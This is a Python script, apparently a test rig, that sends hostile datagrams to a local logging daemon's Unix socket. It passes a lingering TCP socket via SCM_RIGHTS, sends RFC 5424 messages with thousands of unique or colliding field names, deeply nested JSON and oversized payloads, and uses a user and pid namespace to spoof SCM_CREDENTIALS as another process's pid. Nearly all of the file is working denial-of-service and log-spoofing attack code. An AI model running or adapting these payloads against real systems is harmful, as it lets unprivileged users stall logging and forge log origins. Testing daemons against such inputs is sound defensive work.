"""What a local user can put into a datagram to do harm: trap.py KIND SOCKET [NUMBER]. Prints how many were taken.

linger    carries a TCP socket that waits 20 s for its peer when its last reference goes
names     RFC 5424, each datagram with 120 names of fields that nobody has used before
json      JSON, each with 900 members below 29 levels of long names
params    RFC 5424, each with 900 parameters whose names come out the same
large     200,000 bytes of text each
claim     claims to be process 1 of a pid name space that it shares with a process of root; waits for that process
"""

import array
import ctypes
import os
import socket
import struct
import sys
from contextlib import suppress

_PR_SET_DUMPABLE = 4
_NAME_SPACES = 0x10000000 | 0x20000000  # CLONE_NEWUSER | CLONE_NEWPID of sched.h


def client(path: str) -> socket.socket:
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sender.connect(path)
    return sender


def stuck() -> socket.socket:
    """A TCP socket with data that its peer does not read, and a long time to linger for it."""
    server = socket.create_server(("127.0.0.1", 0))
    sender = socket.create_connection(server.getsockname())
    kept.append(server.accept()[0])
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("@ii", 1, 20))
    sender.setblocking(False)
    with suppress(BlockingIOError):
        while True:
            sender.send(bytes(65536))
    return sender


def linger(path: str, _: int) -> bool:
    with client(path) as sender, stuck() as attached:
        control = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [attached.fileno()]))]
        try:
            sender.sendmsg([b"lingers"], control)
        except PermissionError:  # from Linux 6.16 on
            return False
        os.close(attached.detach())
    return True


def payload(kind: str, number: int) -> bytes:
    if kind == "names":
        return b"<14>1 - - - - - [journal@0" + b"".join(b' W%d_%d=""' % (number, n) for n in range(120)) + b"] wiper"
    if kind == "json":
        inner = "{" + ",".join(f'"{n}":1' for n in range(900)) + "}"
        for _ in range(29):
            inner = '{"' + "\u0390" * 256 + '":' + inner + "}"
        return inner.encode()
    if kind == "params":
        names = [b"A" * 62 + b"_%d" % n if n % 2 else b"a" * 64 for n in range(900)]
        return b"<14>1 - - - - - [journal@0" + b"".join(b' %s=""' % name for name in names) + b"] slow"
    return b"%d " % number + bytes(200_000)


def claim(path: str, _: int) -> bool:
    """Send with the pid of another process of our pid name space. It is root who comes into it, with nsenter(1)."""
    ctypes.CDLL(None).prctl(_PR_SET_DUMPABLE, 1, 0, 0, 0)
    uid, gid = os.getuid(), os.getgid()
    if ctypes.CDLL(None, use_errno=True).unshare(_NAME_SPACES):
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(text)
    child = os.fork()
    if child:
        with open("/host/claims", "w", encoding="ascii") as file:
            file.write(f"{child}\n")  # a FIFO: read by root, who then enters
        return os.waitpid(child, 0)[1] == 0
    with client(path) as sender:
        while True:
            for pid in range(2, 20):
                with suppress(OSError):
                    ids = struct.pack("=iII", pid, 0, 0)
                    sender.sendmsg([b"claimed"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, ids)])
                    os._exit(0)


kept: list[socket.socket] = []
kind, path, *count = sys.argv[1:]
number = int(count[0]) if count else 1
if kind in ("linger", "claim"):
    taken = sum({"linger": linger, "claim": claim}[kind](path, n) for n in range(number))
else:
    with client(path) as sender:
        taken = sum(bool(sender.send(payload(kind, n))) for n in range(number))
sys.stdout.write(f"{taken}\n")
